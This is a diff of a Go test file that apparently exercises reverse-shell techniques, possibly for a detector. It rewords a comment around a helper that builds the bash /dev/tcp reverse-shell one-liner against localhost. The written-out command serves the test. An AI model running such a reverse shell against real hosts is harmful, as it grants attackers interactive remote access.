@@ -114,8 +114,8 @@ func testTechnique(t *testing.T, tc technique) {
 	})
 }
 
-// bashDevTCP: bash -i >& /dev/tcp/HOST/PORT 0>&1 (bash opens the socket
-// itself, then runs an interactive bash on it).
+// bashDevTCP is the technique bash -i >& /dev/tcp/HOST/PORT 0>&1 (bash
+// opens the socket itself, then runs an interactive bash on it).
 func bashDevTCP(port int) []string {
 	return []string{"/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)}
 }
